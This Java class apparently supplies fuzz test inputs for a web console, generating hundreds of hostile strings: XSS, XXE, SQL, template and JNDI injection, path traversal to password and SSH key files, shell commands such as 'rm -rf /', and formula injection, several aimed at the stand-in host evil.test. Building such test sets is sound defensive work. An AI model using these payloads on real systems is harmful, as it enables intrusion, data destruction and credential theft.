package dev.serai.hub.console;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Texts that break what is careless with text: one by one by what they try, made from a few parts each, so that the list says
 * what it covers. Beside them there are the payloads of {@link ShownPages#payloads}.
 */
final class NaughtyStrings {

    private static final List<String> ELEMENTS =
            List.of(("script img svg iframe object embed video audio source track details"
                            + " input body style link meta base form math template noscript textarea title select option button marquee"
                            + " table td xmp plaintext frameset frame dialog slot isindex keygen picture portal x-custom html head br")
                    .split(" "));

    private static final List<String> BREAKS =
            List.of("\"", "'", "`", " ", "\" ", "' ", "\">", "'>", "\u00a0", "/", "\t\"");

    private static final List<String> ATTRIBUTES = List.of(
            "onmouseover=alert(1)",
            "autofocus onfocus=alert(1) x=",
            "style=position:fixed;inset:0",
            "srcdoc=<script>alert(1)</script>",
            "formaction=//evil.test",
            "href=javascript:alert(1)",
            "id=main name=_csrf data-live=x",
            "data-key=a hidden");

    private static final List<String> SCHEMES = List.of(
            "javascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "file:///etc/passwd",
            "blob:https://evil.test/1",
            "view-source:https://evil.test",
            "//evil.test/a",
            "\\\\evil.test\\a",
            "https://evil.test/",
            "http:evil.test");

    private NaughtyStrings() {}

    /** Each once, several hundred. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        Stream.of(
                        markup(),
                        attributes(),
                        addresses(),
                        styles(),
                        templates(),
                        commands(),
                        writing(),
                        controls(),
                        sizes())
                .forEach(all::addAll);
        return List.copyOf(all);
    }

    private static List<String> markup() {
        List<String> all = new ArrayList<>();
        for (String element : ELEMENTS) {
            all.add("<" + element + ">");
            all.add("</" + element + "><script>alert(1)</script>");
            all.add("\"><" + element + " src=//evil.test onerror=alert(1) onload=alert(1)>");
            all.add("<" + element.toUpperCase(Locale.ROOT) + "/onfocus\n=\nalert(1)//");
        }
        all.addAll(List.of(
                "<!doctype html>",
                "<!-- ",
                "--><b>",
                "--!><b>",
                "<!--><b>-->",
                "<![CDATA[<b>]]>",
                "]]><b>",
                "<?xml version=\"1.0\"?><b>",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
                "<",
                ">",
                "&",
                "&lt",
                "&#x3c;b&#x3e;",
                "&#0000060b>",
                "&notit;&amp;lt;b&amp;gt;",
                "<b",
                "</",
                "<//b>",
                "< b>",
                "<\u0000b>",
                "\u00bcscript\u00be",
                "\uff1cb\uff1e",
                "\ufe64b\ufe65",
                "+ADw-b+AD4-",
                "\\x3cb\\x3e",
                "\\074b\\076",
                "%3Cb%3E",
                "%253Cb%253E",
                "<svg><style><img src=x onerror=alert(1)></style>",
                "<math><annotation-xml encoding=\"text/html\"><b>",
                "<svg><foreignObject><b>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><use href=\"data:image/svg+xml,x#y\"/>",
                "<a xlink:href=javascript:alert(1)>",
                "<form id=keys><input name=showModal>",
                "<input type=hidden name=_csrf value=x>",
                "<img name=getElementById>",
                "<script type=module src=//evil.test></script>",
                "<link rel=stylesheet href=//evil.test/x.css>"));
        return all;
    }

    private static List<String> attributes() {
        return BREAKS.stream()
                .flatMap(broken -> ATTRIBUTES.stream().map(attribute -> broken + attribute))
                .toList();
    }

    private static List<String> addresses() {
        return SCHEMES.stream()
                .flatMap(address -> Stream.of(
                        address,
                        address.toUpperCase(Locale.ROOT),
                        " " + address,
                        "\u0001" + address,
                        "\u200b" + address,
                        address.replaceFirst(":", "\t:"),
                        address.replaceFirst("(.)", "$1\n"),
                        address.replaceFirst(":", "&colon;"),
                        address.replaceFirst(":", "%3a"),
                        address + "\"onclick=\"alert(1)",
                        address + "'onclick='alert(1)"))
                .toList();
    }

    private static List<String> styles() {
        return List.of(
                "x:expression(alert(1))",
                "background:url(//evil.test)",
                "</style><b>",
                "@import url(//evil.test);",
                "behavior:url(#default#time2)",
                "-moz-binding:url(//evil.test/x.xml#y)",
                "*{display:none!important}",
                ":root{--bg:url(//evil.test)}",
                "\\000022onfocus=alert(1)",
                "color:red;}body{display:none");
    }

    private static List<String> templates() {
        return List.of(
                "${7*7}",
                "#{7*7}",
                "{{7*7}}",
                "@{7*7}",
                "*{7*7}",
                "~{7*7}",
                "%{7*7}",
                "!{7*7}",
                "[[${7*7}]]",
                "[(${7*7})]",
                "<%= 7*7 %>",
                "<#assign x=7>",
                "{% if 1 %}",
                "{{constructor.constructor('alert(1)')()}}",
                "$unsafe{\"<b>\"}",
                "@if(true)",
                "@endif",
                "@for(;;)",
                "@template.frame()",
                "@import java.lang.Runtime",
                "@param String x",
                "@`",
                "`)",
                "${\"<b>\"}",
                "${'a'.getClass()}",
                "${sys:user.home}",
                "${jndi:ldap://evil.test/a}",
                "${env.HOME}",
                "{0} {1}",
                "%s %n %d %x",
                "%1$s%1$s",
                "$1 \\1 $0",
                "${body}",
                "${headers.actor}",
                "$simple{body}");
    }

    private static List<String> commands() {
        return List.of(
                "'",
                "''",
                "' or '1'='1",
                "'; drop table incident; --",
                "\" or 1=1 --",
                "1;select pg_sleep(9)",
                "\\'; --",
                "$$ drop table alert $$",
                "%' and 1=0 union select secret --",
                "_%_",
                "x::jsonb",
                ":#tenant",
                ":?x",
                "?",
                "../../../etc/passwd",
                "..\\..\\windows\\system.ini",
                "....//....//etc/passwd",
                "%2e%2e%2fetc",
                "/dev/null",
                "C:\\con\\nul",
                "aux",
                "~root/.ssh/id_rsa",
                "file\u0000.txt",
                "a/b/../c",
                ";/x",
                "%00",
                "%c0%ae%c0%ae/",
                "; rm -rf /",
                "| cat /etc/passwd",
                "$(reboot)",
                "`reboot`",
                "&& true",
                "> /tmp/x",
                "\nreboot",
                "--help",
                "=cmd|'/c calc'!A0",
                "+1+1",
                "-1+1",
                "@SUM(1)",
                "{\"a\":1}",
                "[1,2",
                "\\u0022",
                "a: b\n- c",
                "!!java.net.URL x",
                "Set-Cookie: serai=x\r\nLocation: //evil.test",
                "*)(uid=*",
                "^(a+)+$",
                "(?i)x",
                "\\",
                "\\\\",
                "\"",
                "#",
                "null",
                "undefined",
                "nil",
                "None",
                "NaN",
                "-Infinity",
                "true",
                "0",
                "-0",
                "1e400",
                "0x7fffffff",
                "9223372036854775808",
                "1/0",
                "2147483648",
                "00",
                "1,5",
                "1970-01-01T00:00:00Z",
                "9999-99-99",
                "24:60",
                "hasOwnProperty",
                "__proto__",
                "constructor",
                "toString",
                "admin",
                "system",
                "policy",
                "user:admin",
                "awaiting_approval",
                "Approve",
                "Sign out",
                "undefined behaviour",
                " ",
                "\t",
                "-",
                ".",
                "..",
                "/",
                "@",
                "*");
    }

    private static List<String> writing() {
        return List.of(
                "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
                "\u05e9\u05dc\u05d5\u05dd <b>\u05e2\u05d5\u05dc\u05dd</b>",
                "abc \u05d0\u05d1\u05d2 123 \u0660\u0661\u0662 def",
                "\u4f60\u597d\uff0c\u4e16\u754c",
                "\u3053\u3093\u306b\u3061\u306f",
                "\uc548\ub155\ud558\uc138\uc694",
                "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
                "\u0928\u092e\u0938\u094d\u0924\u0947",
                "\u0395\u03bb\u03bb\u03ac\u03c2 \u039f\u03a3",
                "\u0130stanbul \u0131\u015f\u0131k",
                "Stra\u00dfe \ufb03 \u01c4",
                "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0316\u0317\u0318\u0319l\u0320\u0321g\u0322o",
                "e\u0301 \u00e9",
                "\u2126 \u212b \u2160",
                "\ud835\udd16\ud835\udd22\ud835\udd2f\ud835\udd1e\ud835\udd26",
                "\u2074\u2075\u2080 \u00bd \u2460",
                "\u2028\u2029\u0085",
                "\u00ad\u034f\u180e\u2060\u3164\uffa0",
                "\ud83d\ude00",
                "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66",
                "\ud83c\udde9\ud83c\uddea\ud83c\uddea",
                "\ud83d\udc4d\ud83c\udfff\ufe0f\u20e3",
                "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc7f",
                "\ud800 \udc00 \udfff\ud800",
                "\ue000\uf8ff\udb80\udc00",
                "\ufffd\ufffe\uffff\ufdd0",
                "\ua9c5\ufdfd\u12031",
                "\u2800\u2580\u2588",
                "\u02d9\u0250nb\u1d09l\u0250",
                "(\u256f\u00b0\u25a1\u00b0)\u256f\ufe35 \u253b\u2501\u253b");
    }

    /** Each control and each character that steers how its neighbours are written. */
    private static List<String> controls() {
        IntStream steering = IntStream.of(
                0x061c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061,
                0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0xfe0f, 0xfeff, 0xfff9, 0xfffb, 0xe0001, 0xe0041);
        return IntStream.concat(IntStream.concat(IntStream.range(0, 0x20), IntStream.range(0x7f, 0xa0)), steering)
                .mapToObj(point -> "a" + Character.toString(point) + "<b>" + Character.toString(point))
                .toList();
    }

    private static List<String> sizes() {
        return List.of(
                "",
                "x".repeat(9_000),
                "<".repeat(5_000),
                "<b>".repeat(2_000),
                "\"".repeat(5_000),
                "&".repeat(5_000),
                "a\n".repeat(500),
                "\ud83d\ude00".repeat(2_000),
                "e" + "\u0301".repeat(2_000),
                "\u202e".repeat(500) + "x",
                "w ".repeat(3_000));
    }
}
